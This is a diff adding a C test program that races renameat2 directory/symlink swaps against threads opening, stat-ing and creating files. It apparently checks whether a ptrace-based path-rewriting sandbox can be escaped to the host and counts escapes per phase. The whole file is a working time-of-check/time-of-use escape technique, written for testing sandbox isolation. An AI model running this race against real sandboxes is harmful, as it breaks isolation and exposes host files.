@@ -1,0 +1,105 @@
+/* race swaps a path component between a directory and a symlink that
+ * leads out of the guest root ("/" or "../../..", which the kernel would
+ * resolve on the host), with renameat2(RENAME_EXCHANGE) in one thread,
+ * while other threads open, stat and create through that component. The
+ * tracer checks and rewrites the path at the syscall's entry; the kernel
+ * resolves the rewritten host path afterwards: if the component is a
+ * symlink by then, the kernel follows it on the host.
+ *
+ * argv: 1 host path of the marker, 2 its content, 3 milliseconds per
+ * phase. For each phase and call it prints
+ *   race-CALL-TARGET: attempts N escapes M
+ * An escape is the marker's content read (open), a successful stat of a
+ * name that exists only on the host (stat), or a file created (creat,
+ * which the test then looks for in the host directory). */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+static const char *content;
+static char hostrel[4096], hostdirrel[4096];
+static volatile int stop;
+static long ms;
+
+static void *swapper(void *arg) {
+	(void)arg;
+	while (!stop)
+		syscall(SYS_renameat2, AT_FDCWD, "/tmp/race/a", AT_FDCWD, "/tmp/race/b", 2 /* RENAME_EXCHANGE */);
+	return 0;
+}
+
+struct attack { const char *call; long attempts, escapes; int id; };
+
+static void *attacker(void *arg) {
+	struct attack *a = arg;
+	char p[8192], buf[256];
+	for (long i = 0; !stop; i++) {
+		a->attempts++;
+		if (!strcmp(a->call, "open")) {
+			snprintf(p, sizeof p, "/tmp/race/a/%s", hostrel);
+			int fd = open(p, O_RDONLY);
+			if (fd >= 0) {
+				ssize_t n = read(fd, buf, sizeof buf - 1);
+				close(fd);
+				buf[n > 0 ? n : 0] = 0;
+				if (strstr(buf, content)) a->escapes++;
+			}
+		} else if (!strcmp(a->call, "stat")) {
+			struct stat st;
+			snprintf(p, sizeof p, "/tmp/race/a/%s", hostrel);
+			if (stat(p, &st) == 0) a->escapes++;
+		} else {
+			snprintf(p, sizeof p, "/tmp/race/a/%s/RACE-%d-%ld", hostdirrel, a->id, i);
+			int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
+			if (fd >= 0) { close(fd); a->escapes++; }
+		}
+	}
+	return 0;
+}
+
+static void phase(const char *target, const char *call) {
+	unlink("/tmp/race/a");
+	unlink("/tmp/race/b");
+	rmdir("/tmp/race/a");
+	rmdir("/tmp/race/b");
+	mkdir("/tmp/race", 0755);
+	mkdir("/tmp/race/a", 0755);
+	symlink(target, "/tmp/race/b");
+	stop = 0;
+	pthread_t sw, at[2];
+	static int id;
+	struct attack a[2] = { { call, 0, 0, id++ }, { call, 0, 0, id++ } };
+	pthread_create(&sw, 0, swapper, 0);
+	for (int i = 0; i < 2; i++) pthread_create(&at[i], 0, attacker, &a[i]);
+	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000 };
+	nanosleep(&ts, 0);
+	stop = 1;
+	pthread_join(sw, 0);
+	for (int i = 0; i < 2; i++) pthread_join(at[i], 0);
+	printf("race-%s-%s: attempts %ld escapes %ld\n", call, target[0] == '/' ? "root" : "dotdot",
+		a[0].attempts + a[1].attempts, a[0].escapes + a[1].escapes);
+}
+
+int main(int argc, char **argv) {
+	if (argc < 4) return 2;
+	snprintf(hostrel, sizeof hostrel, "%s", argv[1] + 1);
+	snprintf(hostdirrel, sizeof hostdirrel, "%s", hostrel);
+	*strrchr(hostdirrel, '/') = 0;
+	content = argv[2];
+	ms = atol(argv[3]);
+	setvbuf(stdout, 0, _IONBF, 0);
+	const char *targets[] = { "/", "../../../../../../../../../.." };
+	const char *calls[] = { "open", "stat", "creat" };
+	for (int t = 0; t < 2; t++)
+		for (int c = 0; c < 3; c++)
+			phase(targets[t], calls[c]);
+	return 0;
+}
